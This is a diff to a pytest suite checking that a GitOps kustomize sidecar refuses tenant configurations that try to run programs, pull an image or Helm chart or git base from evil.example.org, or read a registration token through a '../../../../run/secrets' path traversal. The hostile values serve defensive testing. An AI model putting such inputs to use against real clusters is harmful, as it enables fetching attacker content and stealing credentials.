@@ -153,16 +153,54 @@ def failed(argocd: ArgoCD, space: Space) -> str:
     return condition
 
 
-def test_a_tenants_kustomization_runs_nothing_in_the_sidecar(argocd: ArgoCD, space: Space) -> None:
+@pytest.mark.parametrize(
+    ("asks", "refused"),
+    [
+        pytest.param("exec: {path: /usr/local/bin/python3}", "the program /usr/local/bin/python3", id="a program"),
+        pytest.param("container: {image: evil.example.org/x}", "the image evil.example.org/x", id="an image"),
+    ],
+)
+def test_a_tenants_kustomization_runs_nothing_in_the_sidecar(
+    argocd: ArgoCD, space: Space, asks: str, refused: str
+) -> None:
     space.cluster("web")
     write(space, "kustomize")
     path = space.fleet / f"{CONFIG}.yaml"
-    evil = "/usr/local/bin/python3"
-    path.write_text(path.read_text(encoding="utf-8").replace("path: clusternet-capi-fn", f"path: {evil}"))
+    path.write_text(path.read_text(encoding="utf-8").replace("exec: {path: clusternet-capi-fn}", asks))
     argocd.follow(space)
     condition = failed(argocd, space)
-    assert f"asks for the program {evil}, which is not run unless you pass --enable-exec" in condition
+    assert f"asks for {refused}, which is not run unless you pass --enable-exec" in condition
     assert TOKEN not in condition
+
+
+@pytest.mark.parametrize(
+    ("line", "refused"),
+    [
+        pytest.param(
+            "helmCharts: [{name: x, repo: 'https://evil.example.org'}]",
+            "the build asks for the program helm, which is not run",
+            id="a Helm chart",
+        ),
+        pytest.param("components: ['https://evil.example.org/x.git']", "no 'git' program on path", id="a remote base"),
+        pytest.param(
+            "configMapGenerator: [{name: x, files: ['../../../../run/secrets/clusternet/regToken']}]",
+            "is not in or below",
+            id="the token",
+        ),
+    ],
+)
+def test_a_tenants_kustomization_fetches_and_reads_nothing_beside_its_repository(
+    argocd: ArgoCD, space: Space, line: str, refused: str
+) -> None:
+    space.cluster("web")
+    write(space, "kustomize")
+    path = space.fleet / "kustomization.yaml"
+    path.write_text(f"{path.read_text(encoding='utf-8')}{line}\n", encoding="utf-8")
+    argocd.follow(space)
+    condition = failed(argocd, space)
+    assert refused in condition
+    assert TOKEN not in condition
+    assert not space.list(SETS)
 
 
 def test_a_repository_of_a_thousand_files_is_rendered(argocd: ArgoCD, space: Space) -> None:
